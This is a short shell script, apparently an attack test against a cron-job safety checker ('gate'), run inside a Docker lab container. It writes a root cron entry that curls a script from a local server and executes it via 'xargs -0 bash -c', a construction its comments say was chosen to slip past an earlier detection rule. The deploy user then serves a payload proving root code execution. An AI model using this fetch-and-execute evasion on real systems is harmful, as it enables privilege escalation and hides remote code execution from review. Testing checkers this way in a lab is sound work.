#!/bin/sh
# A root job runs as its program what a fetch prints, the stream made the program by xargs (attack9's stream_run
# judged a pipe into an interpreter with no program of its own; 'xargs -0 bash -c' gives bash one: the stream).
# The admin's /etc/cron.d/ops-pull fetches the ops host's script; the deploy login answers for the address this
# minute (here: 127.0.0.1:8089, a server of its own).
# Usage: attack10/atk_stream_xargs.sh /tmp/atk10   (BASE=1: the code at main 13ee532)
set -eu
W=${1:-/tmp/atk10}; CT=$(cat $W/ct)
docker exec $CT sh -c "rm -f /tmp/root-ran; printf '* * * * * root curl -fsS http://127.0.0.1:8089/run.sh | xargs -0 bash -c\n' > /etc/cron.d/ops-pull"
echo "--- /etc/cron.d/ops-pull:"; docker exec $CT cat /etc/cron.d/ops-pull
ssh -F $W/ssh_config deployer 'mkdir -p /tmp/srv && cd /tmp/srv && echo "id > /tmp/root-ran" > run.sh && (timeout 65 python3 -m http.server 8089 --bind 127.0.0.1 >/dev/null 2>&1 &)'
sleep $((63 - $(date +%S | sed 's/^0//')))
echo "--- /tmp/root-ran:"; docker exec $CT sh -c 'cat /tmp/root-ran 2>&1'
while docker exec $CT pgrep -u deployer -f http.server >/dev/null; do sleep 2; done
echo "--- the deploy login's server stopped (timeout 65 s); the gate (read-only, as admin):"
$W/gate.sh 2>&1 | grep -E "^FAILED|passed|failed|^  - /etc/cron" | cut -c1-400 || true
[ -n "${KEEP:-}" ] || docker exec $CT sh -c 'rm -rf /etc/cron.d/ops-pull /tmp/root-ran /tmp/srv'
